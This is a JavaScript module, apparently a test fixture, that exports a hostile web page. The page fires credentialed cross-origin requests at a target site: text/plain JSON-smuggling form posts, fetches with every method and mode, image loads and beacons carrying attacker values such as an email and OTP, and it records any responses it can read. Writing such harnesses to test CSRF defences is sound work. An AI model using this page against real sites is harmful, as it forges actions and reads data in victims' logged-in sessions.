/**
 * A page that sends every cross-origin request a page can send to `site`, and records what it could read of the answers:
 * `attack(site, paths)` resolves with that.
 */
export const hostilePage = `<!doctype html><title>Elsewhere</title><body><script>
const body = JSON.stringify({ everywhere: true, email: 'eve@evil.example', otp: '000000', code: 'x', state: 'y' })
const settle = (work) => Promise.race([work, new Promise((done) => setTimeout(done, 1000))])
const untilOne = (target, ...names) =>
  settle(Promise.race(names.map((name) => new Promise((done) => target.addEventListener(name, done)))))

async function sendForm(action, enctype) {
  const frame = document.createElement('iframe')
  frame.name = 'frame' + document.querySelectorAll('iframe').length
  const form = Object.assign(document.createElement('form'), { action, method: 'post', enctype, target: frame.name })
  // As text/plain this arrives as the JSON itself.
  form.append(Object.assign(document.createElement('input'), { name: body.slice(0, -1) + ',"', value: '":""}' }))
  document.body.append(frame, form)
  form.submit()
  await untilOne(frame, 'load')
}

async function attack(site, paths) {
  const read = []
  for (const path of paths) {
    const image = Object.assign(new Image(), { src: site + path })
    await untilOne(image, 'error', 'load')
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'])
      await sendForm(site + path, enctype)
    for (const method of ['GET', 'POST', 'PUT', 'DELETE'])
      for (const mode of ['cors', 'no-cors'])
        for (const type of ['application/json', 'text/plain']) {
          const init = { method, mode, credentials: 'include', headers: { 'content-type': type } }
          const call = fetch(site + path, method === 'GET' ? init : { ...init, body })
          await settle(call.then(async (answer) => read.push(await answer.text()), () => {}))
        }
    navigator.sendBeacon(site + path, new Blob([body], { type: 'text/plain' }))
  }
  return read.filter(Boolean)
}
</script>`
